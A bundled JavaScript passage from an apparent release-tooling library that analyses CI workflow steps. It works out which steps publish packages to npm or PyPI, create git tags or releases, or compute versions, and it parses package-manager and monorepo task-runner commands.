var registries = __webpack_require__(30444);
;// CONCATENATED MODULE: ./packages/release-tools/src/publishers.ts
// Publishers: the steps that upload a package, to which registry, and with which credential.
// Entries are in tools/<ecosystem>.ts; `publishesOf` reads them all.





const DRY_RUN = ['--dry-run', '-n', '--dryrun'];
/** The step's env sets a dry-run switch (`PUBLISH_DRY_RUN: 'true'`, `DRY_RUN=1`). */
function asksForDryRun(step) {
    return Object.entries(step.env ?? {}).some(([name, value]) => /DRY_?RUN/i.test(name) && /^(true|1|yes)$/i.test(value.trim()));
}
/** The publishes a step makes, by the publisher table (one step may publish to npm and PyPI). */
function publishesIn(table, step, context) {
    const hits = findHits(table, step, context, (command) => (0,commands/* has */.zy)(command.words, ...DRY_RUN) ||
        (command.words.includes(followed_scripts/* MAYBE_DRY_RUN */.nK) && asksForDryRun(step)));
    return hits.map((hit) => ({
        registry: registryOf(hit),
        tool: nameOf(hit.entry.tool, hit),
        needle: hit.needle,
        usesToken: usesToken(hit),
        provenance: provenanceOf(hit),
        publishOidc: hit.entry.publishOidc ?? false,
    }));
}
function registryOf({ entry, subject }) {
    const source = entry.registry;
    if (typeof source === 'object') {
        const url = source.inputs.map((name) => (0,src_step/* stepInput */.rj)(subject.step, name)).find((v) => v);
        return url ? ((0,registries/* registryOfUrl */.S6)(url) ?? 'other') : source.default;
    }
    if (source === 'publish-oidc') {
        const spelled = (0,registries/* readRegistrySpelling */.CU)((0,src_step/* stepInput */.rj)(subject.step, 'registry'));
        if (spelled.kind === 'name')
            return spelled.name;
        if (spelled.kind === 'expression')
            return 'npm';
        return spelled.kind === 'url' ? (spelled.registry ?? 'other') : 'other';
    }
    if (source === 'npm-command')
        return npmCommandRegistry(subject);
    if (source === 'python-command')
        return pythonCommandRegistry(subject.args, subject.step);
    return source;
}
function npmCommandRegistry({ words, context }) {
    const flag = words.indexOf('--registry');
    const explicit = flag >= 0 ? words[flag + 1] : words.find((word) => word.startsWith('--registry='));
    const registry = explicit ??
        (0,src_step/* stepInput */.rj)(context.jobSteps.find((each) => (0,src_step/* actionName */.aM)(each.uses) === 'actions/setup-node') ?? {}, 'registry-url');
    if (registry && (0,registries/* registryOfUrl */.S6)(registry) !== 'npm' && !registry.includes('${{'))
        return 'other';
    return 'npm';
}
/** Variables that name the upload URL (or index) of twine, uv, pdm, hatch, flit and maturin. */
const PYTHON_UPLOAD_URL_VARIABLES = [
    'TWINE_REPOSITORY_URL',
    'TWINE_REPOSITORY',
    'UV_PUBLISH_URL',
    'PDM_PUBLISH_REPO',
    'HATCH_INDEX_REPO',
    'FLIT_INDEX_URL',
    'MATURIN_REPOSITORY_URL',
    'MATURIN_REPOSITORY',
];
function pythonCommandRegistry(tool, step) {
    const text = tool.join(' ');
    if (/test\.pypi\.org|testpypi/i.test(text))
        return 'testpypi';
    const url = /--(?:repository-url|publish-url|repository|index|index-url)[= ](\S+)/.exec(text)?.[1] ??
        (0,src_step/* envValue */.$R)(step, ...PYTHON_UPLOAD_URL_VARIABLES)?.trim();
    if (url && /test\.pypi\.org|^testpypi$/i.test(url))
        return 'testpypi';
    if (url && /^https?:/.test(url) && (0,registries/* registryOfUrl */.S6)(url) !== 'pypi')
        return 'other';
    return 'pypi';
}
function usesToken({ entry, subject }) {
    const token = entry.token;
    if (token.always)
        return true;
    const { step } = subject;
    if (token.env) {
        for (const [name, value] of Object.entries(step.env ?? {}))
            if ((0,registries/* isRegistryTokenVariable */.$y)(name, entry.ecosystem) &&
                value.trim() !== '' &&
                !(0,src_step/* isGithubToken */.VH)(value))
                return true;
        if (entry.ecosystem === 'npm' && registries/* INLINE_NPM_TOKEN */.Yv.test(step.run ?? ''))
            return true;
    }
    for (const input of token.inputs ?? []) {
        const value = (0,src_step/* stepInput */.rj)(step, input);
        if (value !== undefined && value.trim() !== '' && !(0,src_step/* isGithubToken */.VH)(value))
            return true;
    }
    const flags = token.flags ?? [];
    return subject.args.some((word) => flags.some((flag) => word === flag || word.startsWith(`${flag}=`)));
}
function provenanceOf({ entry, subject }) {
    const rule = entry.provenance ?? {};
    if (rule.input !== undefined) {
        const value = (0,src_step/* stepInput */.rj)(subject.step, rule.input)?.trim();
        return value === 'true' ? true : value === 'false' ? false : (rule.inputDefault ?? false);
    }
    if (entry.ecosystem !== 'npm')
        return false;
    if (rule.flag !== undefined && subject.args.includes(rule.flag))
        return true;
    return /^true$/i.test(subject.step.env?.NPM_CONFIG_PROVENANCE ?? '');
}

;// CONCATENATED MODULE: ./packages/release-tools/src/taggers.ts
// Taggers: the steps that create a git tag or a GitHub Release, and with which credential
// (events made with GITHUB_TOKEN start no workflow). Entries are in tools/<ecosystem>.ts.



/** Tags and GitHub Releases a step creates, by the tagger table. */
function tagCreationsIn(table, step, context) {
    const found = [];
    let pushes;
    for (const hit of findHits(table, step, context)) {
        const kind = typeof hit.entry.kind === 'string' ? hit.entry.kind : hit.entry.kind(hit.subject);
        if (kind === undefined)
            continue;
        if (hit.entry.needsPush && !(pushes ??= jobPushes(context)))
            continue;
        found.push({
            kind,
            tool: nameOf(hit.entry.tool, hit),
            needle: hit.needle,
            token: tokenOf(hit),
        });
    }
    return found;
}
function jobPushes(context) {
    return context.jobSteps.some((each) => (0,commands/* stepCommands */.Bs)(each, context.scripts, context.files).some((command) => command.words[0] === 'git' && command.words[1] === 'push'));
}
function tokenOf({ entry, subject }) {
    const source = entry.token;
    if (source === 'other')
        return 'other';
    if (source === 'git-push')
        return gitPushToken(subject.step, subject.context);
    const value = (source.inputs ?? [])
        .map((input) => (0,src_step/* stepInput */.rj)(subject.step, input))
        .find((v) => v !== undefined) ?? (0,src_step/* envValue */.$R)(subject.step, ...(source.env ?? []));
    return (0,src_step/* tokenOfValue */.o7)(value);
}
/** The credential `git push` uses in the step's job: actions/checkout's, unless the script sets its own. */
function gitPushToken(step, context) {
    const script = step.run ?? '';
    const secrets = (0,src_step/* credentialPaths */.AB)(script).filter((path) => /^(secrets\.|steps\.)/.test(path));
    if (secrets.some((path) => !/^secrets\.GITHUB_TOKEN$/i.test(path)))
        return 'other';
    if (/x-access-token:\$|oauth2:\$|@github\.com.*\$\{?\w*(PAT|TOKEN)/i.test(script) &&
        !/\$\{?GITHUB_TOKEN\b/.test(script))
        return 'other';
    const checkout = context.jobSteps.find((each) => (0,src_step/* actionName */.aM)(each.uses) === 'actions/checkout');
    if (checkout) {
        if ((0,src_step/* stepInput */.rj)(checkout, 'ssh-key'))
            return 'other';
        const token = (0,src_step/* stepInput */.rj)(checkout, 'token');
        if (token !== undefined)
            return (0,src_step/* tokenOfValue */.o7)(token);
    }
    return 'github-token';
}

;// CONCATENATED MODULE: ./packages/release-tools/src/version-computers.ts
// Version computers: the steps that compute a date or a version and hand it on (an output, the
// env, a manifest). A version is computed once, before any approval wait; entries are in
// tools/<ecosystem>.ts.




const HANDS_ON = /GITHUB_OUTPUT|GITHUB_ENV|set-output|setOutput|exportVariable|version|tag/i;
const DATE_IN_CODE = /\bdatetime\.(now|utcnow|today)\s*\(|\bdate\.today\s*\(|\btime\.strftime\s*\(|\bnew Date\s*\(|\bDate\.now\s*\(/;
/** The first date or version a step computes and hands on, by the table; then dates in code. */
function versionComputedIn(table, step, context) {
    const script = step.run ?? (0,src_step/* stepInput */.rj)(step, 'script') ?? '';
    const handsOn = HANDS_ON.test(script);
    const hit = findHits(table, step, context).find((each) => handsOn ||
        !each.entry.handsOn ||
        (each.origin !== undefined &&
            HANDS_ON.test(context.files?.read(each.origin.replace(/:\d+$/, '')) ?? '')));
    if (hit)
        return {
            needle: hit.needle,
            what: hit.entry.what,
            ...(hit.origin === undefined ? {} : { origin: hit.origin }),
        };
    const code = DATE_IN_CODE.exec(script);
    if (code && handsOn) {
        const line = script.split('\n').find((each) => DATE_IN_CODE.test(each)) ?? code[0];
        return { needle: line.trim(), what: 'date' };
    }
    return dateInFollowedScript(step, context);
}
/** A date computed in code by a repository script the step runs (`datetime.now()`, `new Date()`). */
function dateInFollowedScript(step, context) {
    if (context.files === undefined)
        return undefined;
    for (const command of (0,commands/* stepCommands */.Bs)(step, context.scripts, context.files)) {
        const called = (0,followed_scripts/* calledScript */.Xu)((0,commands/* toolWords */.yy)(command.words));
        const text = called && context.files.read(called.path);
        if (called === undefined || text === undefined || !HANDS_ON.test(text))
            continue;
        const lines = text.split('\n');
        const index = lines.findIndex((line) => DATE_IN_CODE.test(line) && !/^\s*(\/\/|#|\*)/.test(line));
        if (index >= 0)
            return { needle: command.text, what: 'date', origin: `${called.path}:${index + 1}` };
    }
    return undefined;
}

;// CONCATENATED MODULE: ./packages/release-tools/src/index.ts
// What release tools do, as tables: publishers (which registry, which credential), taggers (a
// git tag or a GitHub Release, with which token), version computers and test runners; the
// registries by name. Read from plain step text, so any workflow model can use them.


















/** The publishes a step makes (one step may publish to npm and PyPI). */
function publishesOf(step, context) {
    return publishesIn(PUBLISHERS, step, context);
}
/** The git tags and GitHub Releases a step creates. */
function tagCreationsOf(step, context) {
    return tagCreationsIn(TAGGERS, step, context);
}
/** A date or version computed by the step and handed on; with what. */
function versionComputedBy(step, context) {
    return versionComputedIn(VERSION_COMPUTERS, step, context);
}
/** The `uses:` or command by which a step runs tests, if it does. */
function testsRunBy(step, context) {
    return testsRunIn(TEST_RUNNERS, step, context);
}
/** Whether a command of the step runs tests. */
function isTestCommand(command, step, context) {
    return isTestCommandIn(TEST_RUNNERS, command, step, context);
}


/***/ }),

/***/ 10722:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Ab: () => (/* binding */ PACKAGE_MANAGERS),
/* harmony export */   Ek: () => (/* binding */ taskRuns),
/* harmony export */   Ly: () => (/* binding */ FLAGS_WITH_VALUE),
/* harmony export */   WI: () => (/* binding */ readManifest),
/* harmony export */   dn: () => (/* binding */ scriptRun),
/* harmony export */   lT: () => (/* binding */ scriptPackages),
/* harmony export */   uJ: () => (/* binding */ joinPath)
/* harmony export */ });
/* unused harmony exports PM_BUILTINS, workspacePackages */
const PACKAGE_MANAGERS = new Set(['npm', 'pnpm', 'yarn', 'bun']);
/** Subcommands of npm, pnpm, yarn or bun: `pnpm <name>` runs a script only for other names. */
const PM_BUILTINS = new Set('install i ci add remove rm uninstall update up upgrade publish pack exec dlx test t run run-script link unlink audit outdated list ls why config set get version init create info view login logout whoami deprecate dist-tag store prune rebuild import fetch workspaces workspace npm cache patch env setup dedupe licenses bin root help x start stop restart recursive -r stage'.split(' '));
/** Commands of one of them only: `bun build` bundles, `yarn node` starts Node.js. */
const OWN_BUILTINS = {
    bun: new Set(['build', 'repl', 'pm', 'upgrade', 'completions']),
    yarn: new Set(['node', 'constraints', 'plugin', 'explain']),
    pnpm: new Set(['deploy', 'doctor', 'server', 'self-update', 'approve-builds', 'ignored-builds']),
};
/** Flags of the package managers (and of the tools their scripts start) that take a value. */
const FLAGS_WITH_VALUE = new Set([
    '--filter',
    '-F',
    '--filter-prod',
    '-C',
    '--dir',
    '-w',
    '--workspace',
    '--prefix',
    '--cwd',
    '--tag',
    '--access',
    '--registry',
    '--otp',
]);
/** `yarn workspaces foreach --from '@a/*' run x`: flags whose value is not the script. */
const SELECTING_FLAGS = new Set(['--include', '--exclude', '--from']);
/** `--dir=x` as `--dir x`. */
function splitFlags(words) {
    return words.flatMap((word) => {
        const match = /^(--?[\w-]+)=(.*)$/.exec(word);
        return match && FLAGS_WITH_VALUE.has(match[1]) ? [match[1], match[2]] : [word];
    });
}
/** The script a package manager's command runs (npm, pnpm, yarn, bun; `nr` of ni), if any. */
function scriptRun(words) {
    const manager = words[0];
    if (manager === 'nr')
        return words[1] ? scriptRun(['npm', 'run', ...words.slice(1)]) : undefined;
    if (manager === undefined || !PACKAGE_MANAGERS.has(manager))
        return undefined;
    const run = {
        name: '',
        explicit: false,
        dir: undefined,
        selectors: [],
        everyPackage: false,
        root: false,
    };
    const rest = [];
    const list = splitFlags(words.slice(1));
    for (let index = 0; index < list.length; index++) {
        const word = list[index];
        const value = list[index + 1];
        if (['-C', '--dir', '--prefix', '--cwd'].includes(word))
            run.dir = value;
        else if (['--filter', '-F', '--filter-prod'].includes(word))
            run.selectors.push(value ?? '');
        else if (manager === 'npm' && (word === '-w' || word === '--workspace'))
            run.selectors.push(value ?? '');
        else if (manager === 'pnpm' && (word === '-w' || word === '--workspace-root')) {
            run.root = true;
            continue;
        }
        else if (['-r', '--recursive', '--workspaces', '-ws'].includes(word)) {
            run.everyPackage = true;
            continue;
        }
        if (word.startsWith('-')) {
            if (FLAGS_WITH_VALUE.has(word) || SELECTING_FLAGS.has(word))
                index++;
            continue;
        }
        rest.push(word);
    }
    let sub = rest[0];
    if (manager === 'yarn' && sub === 'workspace' && rest[1] !== undefined) {
        run.selectors.push(rest[1]);
        rest.splice(0, 2);
        sub = rest[0];
    }
    else if (manager === 'yarn' && sub === 'workspaces' && /^(foreach|run)$/.test(rest[1] ?? '')) {
        run.everyPackage = true;
        rest.splice(0, 2);
        sub = rest[0];
    }
    if (sub === 'run' || sub === 'run-script') {
        if (rest[1] === undefined)
            return undefined;
        return { ...run, name: rest[1], explicit: true };
    }
    if (sub === undefined ||
        manager === 'npm' ||
        PM_BUILTINS.has(sub) ||
        OWN_BUILTINS[manager]?.has(sub))
        return undefined;
    // `bun ./x.ts` runs a file; `yarn workspace a build` a script.
    if (manager === 'bun' && /[./]/.test(sub))
        return undefined;
    return { ...run, name: sub };
}
/** turbo's own commands: `turbo <other>` runs the task of that name. */
const TURBO_COMMANDS = new Set('prune login logout link unlink gen generate daemon ls info query scan telemetry boundaries bin completion devtools help'.split(' '));
/** Flags of lerna, nx and turbo that take a value (spelled apart from it). */
const TASK_FLAGS_WITH_VALUE = new Set([
    '--scope',
    '--ignore',
    '--since',
    '--concurrency',
    '-p',
    '--projects',
    '--exclude',
    '--base',
    '--head',
    '--parallel',
    '--configuration',
    '-c',
    '--filter',
    '-F',
    '--cache-dir',
    '--output-logs',
    '--log-order',
    '--env-mode',
    '--cache',
    '--graph',
    '--summarize',
    '--log-prefix',
]);
/**
 * The package.json scripts a monorepo task runner runs: `lerna run x` (`--scope`), `nx run-many -t
 * x y` (`-p`), `nx affected -t x`, `nx run proj:x`, `turbo run x` and `turbo x` (`--filter`) run
 * the script of that name in each workspace package that has one (nx and turbo read a package's
 * scripts as its targets). Not read: targets defined only in project.json or turbo.json.
 */
function taskRuns(words) {
    const [tool, sub] = words;
    const list = splitTaskFlags(words.slice(1));
    const flagValues = (...names) => list.flatMap((word, index) => (names.includes(list[index - 1] ?? '') ? [word] : []));
    const plain = list.filter((word, index) => !word.startsWith('-') && !TASK_FLAGS_WITH_VALUE.has(list[index - 1] ?? ''));
    const runs = (names, selectors) => names
        .flatMap((name) => name.split(','))
        .filter((name) => name !== '')
        .map((name) => ({
        name,
        explicit: true,
        dir: undefined,
        selectors,
        everyPackage: true,
        root: false,
        task: true,
    }));
    if (tool === 'lerna' && sub === 'run' && plain[1] !== undefined)
        return runs([plain[1]], flagValues('--scope'));
    if (tool === 'nx') {
        const projects = flagValues('-p', '--projects').flatMap((value) => value.split(','));
        if (sub === 'run-many' || sub === 'affected') {
            // `-t build test`: the targets go on until the next flag.
            const targets = flagValues('--target', '--targets');
            list.forEach((word, index) => {
                if (word !== '-t')
                    return;
                for (const next of list.slice(index + 1)) {
                    if (next.startsWith('-'))
                        break;
                    targets.push(next);
                }
            });
            return runs(targets, projects);
        }
        const legacy = /^affected:(.+)$/.exec(sub ?? '');
        if (legacy)
            return runs([legacy[1]], projects);
        const target = sub === 'run' ? plain[1] : undefined;
        const [project, name] = target?.split(':') ?? [];
        if (project && name)
            return runs([name], [project]);
        return [];
    }
    if (tool === 'turbo') {
        const tasks = sub === 'run' || sub === 'watch' ? plain.slice(1) : plain;
        if (tasks[0] === undefined || TURBO_COMMANDS.has(tasks[0]))
            return [];
        return runs(tasks, flagValues('--filter', '-F'));
    }
    return [];
}
/** `--scope=x` as `--scope x`. */
function splitTaskFlags(words) {
    return words.flatMap((word) => {
        const match = /^(--?[\w-]+)=(.*)$/.exec(word);
        return match && (TASK_FLAGS_WITH_VALUE.has(match[1]) || /^--targets?$/.test(match[1]))
            ? [match[1], match[2]]
            : [word];
    });
}
const DEPENDENCY_FIELDS = [
    'dependencies',
    'devDependencies',
    'peerDependencies',
    'optionalDependencies',
];
/** A package.json's name and scripts; undefined when there is none (or it is not JSON). */
function readManifest(files, dir) {
    const text = files.read(joinPath(dir, 'package.json'));
    if (text === undefined)
        return undefined;
    try {
        const value = JSON.parse(text);
        const scripts = {};
        for (const [name, body] of Object.entries(value.scripts ?? {}))
            if (typeof body === 'string')
                scripts[name] = body;
        const dependencies = DEPENDENCY_FIELDS.flatMap((field) => {
            const list = value[field];
            return typeof list === 'object' && list !== null ? Object.keys(list) : [];
        });
        return { name: typeof value.name === 'string' ? value.name : undefined, scripts, dependencies };
    }
    catch {
        return undefined;
    }
}
/** `a` + `b` as a repository path: no `./`, no `..` out of the repository (undefined then). */
function joinPath(dir, path) {
    const parts = [];
    for (const part of `${dir}/${path}`.split('/')) {
        if (part === '' || part === '.')
            continue;
        if (part === '..')
            parts.pop();
        else
            parts.push(part);
    }
    return parts.join('/');
}
/**
 * The packages `run` runs its script in, from the folder `cwd` (repository path) whose scripts are
 * `scripts`; undefined when they cannot be read (no repository files, or a package not found).
 */
function scriptPackages(run, cwd, scripts, files) {
    const selecting = run.selectors.length > 0 || run.everyPackage;
    if (files === undefined)
        return selecting || run.dir !== undefined ? [] : [{ dir: cwd, scripts }];
    if (run.root) {
        const manifest = readManifest(files, '');
        return manifest ? [{ dir: '', scripts: manifest.scripts }] : [];
    }
    if (selecting) {
        const packages = workspacePackages(files);
        const chosen = run.selectors.some((selector) => !selector.startsWith('!'))
            ? packages.filter((each) => run.selectors.some((selector) => selected(selector, packages).has(each)))
            : packages;
        return chosen.map(({ dir, manifest }) => ({ dir, scripts: manifest.scripts }));
    }
    if (run.dir === undefined)
        return [{ dir: cwd, scripts }];
    const dir = joinPath(cwd, run.dir);
    const manifest = readManifest(files, dir);
    return manifest ? [{ dir, scripts: manifest.scripts }] : [];
}
/**
 * The packages a pnpm or turbo `--filter` names, with the dependency selectors: `foo...` (foo and
 * the workspace packages it depends on), `foo^...` (those only), `...foo` (foo and the packages
 * that depend on it), `...^foo`, and `[origin/main]` (the packages changed since a commit: any of
 * them may be, so every package).
 */
function selected(selector, packages) {
    if (selector.startsWith('!'))
        return new Set();
    const dependencies = /\.\.\.$/.test(selector);
    const dependents = /^\.\.\./.test(selector);
    const withoutSelf = /\^\.\.\.$|^\.\.\.\^/.test(selector);
    const core = selector.replace(/^\.\.\.\^?|\^?\.\.\.$/g, '');
    const since = /\[[^\]]*\]$/.test(core);
    const base = core.replace(/\[[^\]]*\]$/, '').replace(/^\{(.*)\}$/, '$1');
    const start = new Set(base === '' && since ? packages : packages.filter((each) => selects(base, each)));
    if (!dependencies && !dependents)
        return start;
    const byName = new Map(packages.map((each) => [each.manifest.name, each]));
    const found = new Set(withoutSelf ? [] : start);
    const queue = [...start];
    while (queue.length > 0) {
        const current = queue.pop();
        const next = dependencies
            ? current.manifest.dependencies.map((name) => byName.get(name))
            : packages.filter((each) => each.manifest.dependencies.includes(current.manifest.name ?? ''));
        for (const each of next)
            if (each !== undefined && !found.has(each)) {
                found.add(each);
                queue.push(each);
            }
    }
    return found;
}
/** A pnpm `--filter`, npm `-w` or yarn workspace selector: a name (with `*`) or a path. */
function selects(selector, { dir, manifest }) {
    const bare = selector.replace(/^\{(.*)\}$/, '$1').replace(/^\^?\.\.\.|\.\.\.\^?$/g, '');
    if (bare.startsWith('!') || bare === '')
        return false;
    if (bare.startsWith('./') || bare.startsWith('../') || bare.includes('/**') || bare === '.') {
        return globMatches(joinPath('', bare), dir);
    }
    if (manifest.name !== undefined && globMatches(bare, manifest.name, true))
        return true;
    // npm's `-w packages/a` names the folder.
    return !bare.startsWith('@') && bare.includes('/') && joinPath('', bare) === dir;
}
/** Each pattern compiled once: every workspace package is matched against each selector. */
const globs = new Map();
function globMatches(pattern, text, name = false) {
    const key = `${name ? 'name' : 'path'}:${pattern}`;
    let glob = globs.get(key);
    if (glob === undefined) {
        const source = pattern
            .split(/(\*\*\/?|\*)/)
            .map((part) => part.startsWith('**') ? '.*' : part === '*' ? (name ? '.*' : '[^/]*') : escape(part))
            .join('');
        glob = new RegExp(`^${source}$`);
        if (globs.size > 1000)
            globs.clear();
        globs.set(key, glob);
    }
    return glob.test(text);
}
const escape = (text) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
const workspaceCache = new WeakMap();
const PACKAGE_LIMIT = 500;
/** The workspace packages (not the root): pnpm-workspace.yaml's `packages`, package.json's `workspaces`. */
function workspacePackages(files) {
    const known = workspaceCache.get(files);
    if (known)
        return known;
    const patterns = workspacePatterns(files);
    const include = patterns.filter((pattern) => !pattern.startsWith('!'));
    const exclude = patterns.filter((pattern) => pattern.startsWith('!')).map((p) => p.slice(1));
    const dirs = new Set();
    for (const pattern of include)
        for (const dir of expandGlob(files, joinPath('', pattern)))
            if (dirs.size < PACKAGE_LIMIT)
                dirs.add(dir);
    const packages = [];
    for (const dir of [...dirs].sort()) {
        if (dir === '' || exclude.some((pattern) => globMatches(joinPath('', pattern), dir)))
            continue;
        const manifest = readManifest(files, dir);
        if (manifest)
            packages.push({ dir, manifest });
    }
    workspaceCache.set(files, packages);
    return packages;
}
function workspacePatterns(files) {
    const yaml = files.read('pnpm-workspace.yaml');
    if (yaml !== undefined) {
        const section = /^packages:[ \t]*\n((?:(?:[ \t]+|-).*\n?|[ \t]*\n)*)/m.exec(yaml)?.[1] ?? '';
        const flow = /^packages:\s*\[([^\]]*)\]/m.exec(yaml)?.[1];
        const items = flow
            ? flow.split(',')
            : [...section.matchAll(/^\s*-\s*(.+?)\s*$/gm)].map((match) => match[1]);
        return items.map((item) => item.trim().replace(/^(['"])(.*)\1$/, '$2')).filter(Boolean);
    }
    let list;
    try {
        const manifest = JSON.parse(files.read('package.json') ?? '{}');
        const workspaces = manifest.workspaces;
        list = Array.isArray(workspaces)
            ? workspaces
            : workspaces?.packages;
    }
    catch {
        list = undefined;
    }
    // Lerna's own list (`packages` of lerna.json, `packages/*` when it says none).
    const lerna = Array.isArray(list) ? undefined : files.read('lerna.json');
    if (lerna !== undefined) {
        try {
            list = JSON.parse(lerna).packages ?? ['packages/*'];
        }
        catch {
            list = undefined;
        }
    }
    return Array.isArray(list) ? list.filter((item) => typeof item === 'string') : [];
}
/** The folders a workspace pattern (`packages/*`, `packages/**`, `apps/web`) names. */
function expandGlob(files, pattern) {
    if (files.list === undefined)
        return pattern.includes('*') ? [] : [pattern];
    let current = [''];
    for (const part of pattern.split('/')) {
        const next = [];
        for (const dir of current) {
            if (part === '**') {
                next.push(...subfolders(files, dir, 3));
            }
            else if (part.includes('*')) {
                for (const name of files.list(dir) ?? [])
                    if (globMatches(part, name) && name !== 'node_modules')
                        next.push(joinPath(dir, name));
            }
            else
                next.push(joinPath(dir, part));
        }
        current = next.slice(0, PACKAGE_LIMIT);
    }
    return current;
}
function subfolders(files, dir, depth) {
    const found = [dir];
    if (depth === 0)
        return found;
    for (const name of files.list?.(dir) ?? [])
        if (name !== 'node_modules' && !name.startsWith('.'))
            found.push(...subfolders(files, joinPath(dir, name), depth - 1));
    return found;
}


/***/ }),

/***/ 30444:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   $y: () => (/* binding */ isRegistryTokenVariable),
/* harmony export */   CU: () => (/* binding */ readRegistrySpelling),
/* harmony export */   Ln: () => (/* binding */ REGISTRY_NAMES),
/* harmony export */   S6: () => (/* binding */ registryOfUrl),
/* harmony export */   U_: () => (/* binding */ isTokenVariable),
/* harmony export */   Yv: () => (/* binding */ INLINE_NPM_TOKEN),
/* harmony export */   m6: () => (/* binding */ registryTitle)
/* harmony export */ });
/* unused harmony exports REGISTRIES, isRegistryName, ecosystemOfUrl */
// The registries a release publishes to: their names as publish-oidc's `registry:` input spells
// them, their public upload addresses and hosts, and the variables that hand each a token.
const REGISTRIES = {
    npm: {
        title: 'npm',
        ecosystem: 'npm',
        url: 'https://registry.npmjs.org/',
        hosts: ['registry.npmjs.org'],
    },
    pypi: {
        title: 'PyPI',
        ecosystem: 'pypi',
        url: 'https://upload.pypi.org/legacy/',
        hosts: ['upload.pypi.org', 'pypi.org'],
    },
    testpypi: {
        title: 'TestPyPI',
        ecosystem: 'pypi',
        url: 'https://test.pypi.org/legacy/',
        hosts: ['test.pypi.org'],
    },
};
const REGISTRY_NAMES = Object.keys(REGISTRIES);
/** How messages name a registry; `other` is "the registry". */
function registryTitle(registry) {
    return registry === 'other' ? 'the registry' : REGISTRIES[registry].title;
}
function isRegistryName(text) {
    return Object.hasOwn(REGISTRIES, text);
}
/**
 * The named registry a URL (or any text holding one) points at, by host: `test.pypi.org` before
 * `pypi.org`; undefined for any other host.
 */
function registryOfUrl(text) {
    const hosts = REGISTRY_NAMES.flatMap((name) => REGISTRIES[name].hosts.map((host) => ({ name, host })));
    // Longest host first: test.pypi.org contains pypi.org.
    hosts.sort((a, b) => b.host.length - a.host.length);
    return hosts.find(({ host }) => text.includes(host))?.name;
}
/**
 * publish-oidc's rule for a registry given as a URL: a path ending in `/legacy` is a PyPI-style
 * upload endpoint (Warehouse's legacy upload API), anything else an npm registry.
 */
function ecosystemOfUrl(url) {
    return url.pathname.replace(/\/+$/, '').endsWith('/legacy') ? 'pypi' : 'npm';
}
/** Reads a `registry:` input as written; empty or missing is publish-oidc's default, npm. */
function readRegistrySpelling(value) {
    const text = (value ?? '').trim();
    if (text === '')
        return { kind: 'name', name: 'npm' };
    if (isRegistryName(text))
        return { kind: 'name', name: text };
    if (text.includes('${{'))
        return { kind: 'expression' };
    let url;
    try {
        url = new URL(text);
    }
    catch {
        return { kind: 'invalid', text };
    }
    return {
        kind: 'url',
        url: text,
        registry: registryOfUrl(url.host),
        ecosystem: ecosystemOfUrl(url),
    };
}
/** Variables that hand an npm token to `npm publish` and the tools around it. */
const NPM_TOKEN_VARIABLES = /^(NODE_AUTH_TOKEN|NPM_TOKEN|NPM_AUTH_TOKEN|NPM_CONFIG__AUTH(TOKEN)?|NPM_CONFIG_TOKEN)$/i;
/** Variables that hand a PyPI token (or password) to twine, uv, poetry, hatch, flit, maturin, pdm. */
const PYPI_TOKEN_VARIABLES = /^(TWINE_PASSWORD|PYPI_API_TOKEN|PYPI_TOKEN|PYPI_PASSWORD|UV_PUBLISH_TOKEN|UV_PUBLISH_PASSWORD|POETRY_PYPI_TOKEN_\w+|POETRY_HTTP_BASIC_\w+_PASSWORD|HATCH_INDEX_AUTH|FLIT_PASSWORD|MATURIN_PYPI_TOKEN|MATURIN_PASSWORD|PDM_PUBLISH_PASSWORD)$/i;
/** Whether an env variable's name is one that hands a token to a publish for that ecosystem. */
function isRegistryTokenVariable(name, ecosystem) {
    return (ecosystem === 'npm' ? NPM_TOKEN_VARIABLES : PYPI_TOKEN_VARIABLES).test(name);
}
/** Env variable names that hand a registry token to a publishing tool. */
function isTokenVariable(name) {
    return isRegistryTokenVariable(name, 'npm') || isRegistryTokenVariable(name, 'pypi');
}
/** A token written into a script's npm configuration (`--//host/:_authToken=...`). */
const INLINE_NPM_TOKEN = /_authToken/;


/***/ }),

/***/ 59160:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   G: () => (/* binding */ commandsIn)
/* harmony export */ });
/* harmony import */ var _shell_parse_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(58247);
// The simple commands of a `run:` script, split well enough to recognise `npm publish` or
// `git tag`: continuations joined, comments dropped, `&&`, `||`, `;` and `|` split, leading
// `VAR=value`, `sudo` and `time` removed, quotes taken off each word. Not a shell parser: a
// command it cannot read is simply not recognised.

const PREFIXES = new Set(['sudo', 'time', 'exec', 'command', 'env', 'nohup']);
/** Words that open or close a compound command: `for x in y; do cmd; done` keeps `cmd`. */
const RESERVED = new Set(['do', 'then', 'else', 'elif', 'if', 'while', 'until', '!', '{', '(', '}']);
const CLOSERS = new Set(['done', 'fi', 'esac', '}', ')', ';;']);
const HERE_DOC = /<<-?\s*(['"]?)([A-Za-z_][\w-]*)\1/;
/**
 * The same script text is read many times (each step of a job, each package script a step runs,
 * each question a rule asks): its commands are kept, per text as the shell parser left it. The
 * commands are never changed by their readers.
 */
const commandsCache = new Map();
const CACHE_LIMIT = 5000;
function commandsIn(script, depth = 0) {
    // Parsed by the shell parser first (parseScripts): its multi-line commands on one line.
    const flattened = (0,_shell_parse_js__WEBPACK_IMPORTED_MODULE_0__/* .flattenedScript */ .H8)(script);
    if (depth === 0) {
        const known = commandsCache.get(script);
        if (known !== undefined && known.flattened === flattened)
            return known.commands;
        const commands = splitCommands(script, flattened, depth);
        if (commandsCache.size >= CACHE_LIMIT)
            commandsCache.clear();
        commandsCache.set(script, { flattened, commands });
        return commands;
    }
    return splitCommands(script, flattened, depth);
}
function splitCommands(script, flattened, depth) {
    const joined = (flattened ?? script).replace(/\\\r?\n/g, ' ');
    const commands = [];
    let hereDocEnd;
    let subshell = 0;
    const push = (command, level) => commands.push(level > 0 ? { ...command, subshell: level } : command);
    for (const rawLine of joined.split(/\r?\n/)) {
        // A here-doc's body is data (release notes, a config file), not commands.
        if (hereDocEnd !== undefined) {
            if (rawLine.trim() === hereDocEnd)
                hereDocEnd = undefined;
            continue;
        }
        const hereDoc = HERE_DOC.exec(stripComment(rawLine));
